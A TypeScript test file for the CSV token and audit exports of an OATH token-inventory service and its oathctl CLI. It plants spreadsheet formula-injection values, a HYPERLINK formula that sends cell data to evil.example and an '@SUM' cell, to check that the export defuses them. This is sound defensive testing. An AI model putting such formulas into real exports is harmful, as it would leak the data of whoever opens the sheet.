import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { Secret } from 'otpauth';
import { AUDIT_COLUMNS, TOKEN_COLUMNS } from '../../../shared/workflows/exports';
import { jsonOf, startTestApp, type TestApp } from '../../support/app';
import { editTokenRow } from '../reconcile/helpers';

/** CSV exports of the inventory and the audit trail, through the API and oathctl. */

const run = promisify(execFile);
const TSX = path.resolve(__dirname, '../../../node_modules/tsx/dist/cli.mjs');
const OATHCTL = path.resolve(__dirname, '../../../cli/oathctl.ts');
const HEADER = 'upn,serial number,secret key,time interval,manufacturer,model,pool';
/** More than one store page (1000 rows), so the export is seen to go on past the first. */
const STOCK = 1100;

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || record.length > 0) throw new Error('the CSV does not end with CRLF');
  return records;
}

describe('CSV exports', () => {
  let app: TestApp;
  let dir: string;
  let env: NodeJS.ProcessEnv;
  const seeds: string[] = [];

  const oathctl = async (...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> => {
    try {
      const { stdout, stderr } = await run(process.execPath, [TSX, OATHCTL, ...args], { env, maxBuffer: 64 * 1024 * 1024 });
      return { code: 0, stdout, stderr };
    } catch (error) {
      const failed = error as { code: number; stdout: string; stderr: string };
      return { code: failed.code, stdout: failed.stdout, stderr: failed.stderr };
    }
  };
  const exported = async (route: string, roles = ['Tokens.Read']) => {
    const response = await app.call('GET', route, { roles });
    return { response, text: await response.text() };
  };

  beforeAll(async () => {
    app = await startTestApp({ keyVaultCreateLimit: { requests: 5000, windowMs: 1000 } });
    dir = mkdtempSync(path.join(os.tmpdir(), 'exports-'));
    env = { ...process.env, OATHCTL_URL: app.host.url, OATHCTL_TOKEN: await app.adminToken(['Tokens.Read']) };
    await app.graph.seedUsers([{ displayName: 'Ada', userPrincipalName: 'ada@contoso.com', employeeId: 'EX1001' }]);
    const lines = [HEADER];
    for (let i = 0; i < STOCK; i++) {
      seeds.push(new Secret({ size: 20 }).base32);
      lines.push(`${i === 0 ? 'ada@contoso.com' : ''},EX-${String(i).padStart(5, '0')},${seeds[i]},30,Token2,C202,${i % 10 === 0 ? 'GVA' : ''}`);
    }
    const imported = await jsonOf(await app.call('POST', 'tokens/import', { body: `${lines.join('\n')}\n`, contentType: 'text/csv' }));
    expect(imported).toMatchObject({ imported: STOCK, errors: [] });
    // A row as another tool (or an older version) may have left it: cells a spreadsheet would run as formulas.
    await editTokenRow(app, 'EX-00005', { lastChangeReason: '=HYPERLINK("http://evil.example/?"&A1,"click")', pool: '@SUM(1)' });
    const revoked = await app.call('POST', 'users/ada@contoso.com/token/revoke', { body: JSON.stringify({ reason: 'lost', note: 'left on a train' }), contentType: 'application/json' });
    expect(revoked.status).toBe(200);
  }, 600_000);
  afterAll(async () => {
    await app?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('GET /api/tokens/export: every token, past the first page, as CSV an auditor can open; no seed; formula cells defused', async () => {
    const { response, text } = await exported('tokens/export');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="tokens-\d{4}-\d{2}-\d{2}\.csv"$/);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...TOKEN_COLUMNS]);
    expect(rows).toHaveLength(STOCK);
    expect(new Set(rows.map((r) => r[0])).size).toBe(STOCK);
    const column = (name: (typeof TOKEN_COLUMNS)[number]) => TOKEN_COLUMNS.indexOf(name);
    const lost = rows.find((r) => r[0] === 'EX-00000');
    expect(lost?.[column('status')]).toBe('lost');
    expect(lost?.[column('revocationReason')]).toBe('lost');
    const edited = rows.find((r) => r[0] === 'EX-00005');
    expect(edited?.[column('lastChangeReason')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(edited?.[column('pool')]).toBe("'@SUM(1)");
    for (const seed of seeds) expect(text).not.toContain(seed);
    expect(text).not.toMatch(/seed-EX|secret/i);
  });

  it("the tokens export takes the list's filters, and refuses a bad one as problem+json", async () => {
    const gva = parseCsv((await exported('tokens/export?pool=GVA')).text).slice(1);
    expect(gva).toHaveLength(STOCK / 10);
    expect(gva.every((r) => r[TOKEN_COLUMNS.indexOf('pool')] === 'GVA')).toBe(true);
    const held = parseCsv((await exported('tokens/export?user=EX1001')).text).slice(1);
    expect(held.map((r) => r[0])).toEqual(['EX-00000']);

    const bad = await exported('tokens/export?status=misplaced');
    expect(bad.response.status).toBe(400);
    expect(bad.response.headers.get('content-type')).toContain('application/problem+json');
    expect(JSON.parse(bad.text)).toMatchObject({ errors: [{ path: 'status' }] });
    expect((await exported('tokens/export', [])).response.status).toBe(403);
  });

  it('GET /api/audit/export: the whole trail, or one token, employee or time on; the note is there, no seed', async () => {
    const all = parseCsv((await exported('audit/export')).text);
    expect(all[0]).toEqual([...AUDIT_COLUMNS]);
    const actions = all.slice(1).map((r) => r[AUDIT_COLUMNS.indexOf('action')]);
    expect(actions).toContain('token.revoked.lost');
    const one = parseCsv((await exported('audit/export?serial=EX-00000')).text).slice(1);
    expect(one.length).toBeGreaterThan(0);
    expect(one.every((r) => r[AUDIT_COLUMNS.indexOf('serialNumber')] === 'EX-00000')).toBe(true);
    expect(one.some((r) => (r[AUDIT_COLUMNS.indexOf('detail')] ?? '').includes('left on a train'))).toBe(true);
    expect(parseCsv((await exported(`audit/export?since=${new Date(Date.now() + 3600_000).toISOString()}`)).text)).toHaveLength(1);
    const text = (await exported('audit/export')).text;
    for (const seed of seeds) expect(text).not.toContain(seed);
    expect((await exported('audit/export?since=yesterday')).response.status).toBe(400);
  });

  it('oathctl export tokens --out FILE and export audit to standard output', async () => {
    const file = path.join(dir, 'tokens.csv');
    const toFile = await oathctl('export', 'tokens', '--pool', 'GVA', '--out', file);
    expect(toFile).toMatchObject({ code: 0, stderr: '' });
    expect(toFile.stdout).toContain(`written to ${file}`);
    expect(readFileSync(file, 'utf8')).toBe((await exported('tokens/export?pool=GVA')).text);
    // --out makes a new file only: an export never writes over one.
    const again = await oathctl('export', 'tokens', '--out', file);
    expect(again.code).toBe(2);
    expect(again.stderr.split('\n')[0]).toBe(`oathctl: --out ${file} already exists (or is a link); exports are only written to a new file`);
    expect(readFileSync(file, 'utf8')).toBe((await exported('tokens/export?pool=GVA')).text);

    const toStdout = await oathctl('export', 'audit', '--serial', 'EX-00000');
    expect(toStdout.code).toBe(0);
    expect(toStdout.stdout).toBe((await exported('audit/export?serial=EX-00000')).text);

    expect((await oathctl('export', 'seeds')).code).toBe(2);
    expect((await oathctl('export', 'tokens', '--since', '2026-01-01')).code).toBe(2);
    const refused = await oathctl('export', 'tokens', '--status', 'misplaced');
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('status');
  });

  it('oathctl export --out leaves no file behind when the download breaks off', async () => {
    // A service that starts the CSV and drops the connection half-way.
    const server = createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/csv; charset=utf-8' });
      response.write(`${TOKEN_COLUMNS.join(',')}\r\nEX-1,Token2`);
      setTimeout(() => response.socket?.destroy(), 50);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const file = path.join(dir, 'broken.csv');
    try {
      const { port } = server.address() as AddressInfo;
      const broken = await oathctl('export', 'tokens', '--out', file, '--url', `http://127.0.0.1:${port}`);
      expect(broken.code).toBe(1);
      expect(existsSync(file)).toBe(false);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
